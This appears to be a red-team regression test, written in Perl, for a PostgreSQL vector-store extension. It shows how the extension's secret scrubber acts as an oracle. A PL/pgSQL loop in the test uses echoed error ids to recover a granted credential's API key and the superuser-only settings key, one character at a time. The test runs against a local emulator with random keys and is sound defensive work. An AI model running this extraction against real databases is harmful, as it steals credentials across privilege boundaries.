# Red team, round three: the scrubber is an oracle for the key. A role
# granted a credential may use it but not read its key. Strings from the
# server are scrubbed, and a string that ENDS with the first 4+ bytes of a
# secret has that end replaced by [redacted] (for fields cut off in the
# middle of a key). The API echoes ids the caller sends at the end of its
# messages ("No such File object: <id>", as the real API and the local
# server do; likewise "Unrecognized request argument supplied: <name>"),
# so the caller controls the end of the string: vs_file_get('zz' || guess)
# shows "[redacted]" exactly when guess is a prefix of the key. One
# character at a time, an ordinary role reads the whole key (about 32
# requests per character).
# The settings key (vectorstore.api_key) the same way, by any role (server
# vectorstore is granted to PUBLIC).
# Fails today: alice recovers the credential's key, bob the settings key.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use VsTest;

my $emu = VsTest::Emulator->start;
my $node = VsTest::new_node('oracle', $emu);
$node->start;
my @chars = ('a' .. 'z', 'A' .. 'Z', '0' .. '9');
my $key = 'sk-proj-' . join('', map { $chars[int(rand(@chars))] } 1 .. 12);
my $url = $emu->url . '/v1';
$node->safe_psql('postgres', qq{
	CREATE EXTENSION vectorstore;
	CREATE ROLE alice LOGIN;
	GRANT USAGE ON SCHEMA vectorstore TO alice;
	SELECT vectorstore.vs_credential_set('team', '$key', base_url => '$url');
	SELECT vectorstore.vs_credential_grant('team', 'alice');
});

# what alice sees for one probe: the error's detail
sub detail
{
	my ($probe) = @_;
	my ($ret, $out, $err) = $node->psql('postgres',
		"SET vectorstore.credential = 'team'; SELECT * FROM vectorstore.vs_file_get('$probe')",
		extra_params => [ '-U', 'alice' ], on_error_stop => 0);
	my ($d) = $err =~ /DETAIL:\s*(.*)/;
	return $d // '';
}

# the same question about a right and a wrong prefix gets the same answer
my $right = substr($key, 0, 6);
my $wrong = substr($key, 0, 5) . (substr($key, 5, 1) eq 'x' ? 'y' : 'x');
(my $d_right = detail("zz$right")) =~ s/\Q$right\E/<probe>/;
(my $d_wrong = detail("zz$wrong")) =~ s/\Q$wrong\E/<probe>/;
is($d_right, $d_wrong, 'a probe ending with a prefix of the key is answered as any other probe');
(my $d_right3 = detail("zz$right...")) =~ s/\Q$right\E/<probe>/;
(my $d_wrong3 = detail("zz$wrong...")) =~ s/\Q$wrong\E/<probe>/;
is($d_right3, $d_wrong3, '... also when the probe ends with "..."');

# the whole key, one character at a time, in one statement as the role;
# $probe is an SQL statement with %s where the guess goes
sub recover
{
	my ($role, $set, $probe) = @_;
	my $stmt = sprintf($probe, "'zz' || \$1 || \$2");
	my ($ret, $out, $err) = $node->psql('postgres', $set . q{
	DO $$
	DECLARE known text := 'sk-'; c text; d text; found boolean;
	BEGIN
		LOOP
			found := false;
			FOREACH c IN ARRAY regexp_split_to_array('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_', '') LOOP
				BEGIN
					EXECUTE } . "\$q\$$stmt\$q\$" . q{ USING known, c;
				EXCEPTION WHEN OTHERS THEN
					GET STACKED DIAGNOSTICS d = PG_EXCEPTION_DETAIL;
				END;
				IF d ~ 'zz\[redacted\]($|[^A-Za-z0-9_-])' THEN known := known || c; found := true; EXIT; END IF;
			END LOOP;
			EXIT WHEN NOT found OR length(known) > 64;
		END LOOP;
		RAISE NOTICE 'recovered: %', known;
	END $$;
}, extra_params => [ '-U', $role ], on_error_stop => 0);
	my ($recovered) = $err =~ /recovered: (\S*)/;
	note("recovered by $role: " . ($recovered // "(nothing: $err)"));
	return $recovered // '';
}

# alice, granted credential "team": "No such File object: <id>"
my $got = recover('alice', "SET vectorstore.credential = 'team';",
	'SELECT * FROM vectorstore.vs_file_get(%s)');
note("key: $key");
isnt($got, $key, 'an ordinary role granted a credential cannot read its key');
isnt(length($got), length($key) - 1, '... nor all but one character of it');

# bob, no grant at all: the settings key (vectorstore.api_key, superuser
# only), through "Unrecognized request argument supplied: <name>"
my $skey = 'sk-' . join('', map { $chars[int(rand(@chars))] } 1 .. 12);
$node->safe_psql('postgres', qq{
	CREATE ROLE bob LOGIN;
	GRANT USAGE ON SCHEMA vectorstore TO bob;
	ALTER SYSTEM SET vectorstore.api_key = '$skey';
});
$node->restart;
$got = recover('bob', '',
	q{SELECT vectorstore.vs_store_create(name => 'n', request_options => jsonb_build_object('extra_body', jsonb_build_object(%s, 1)))});
note("settings key: $skey");
isnt($got, $skey, 'a role with only the default grants cannot read vectorstore.api_key');

$node->stop;
$emu->stop;
done_testing();
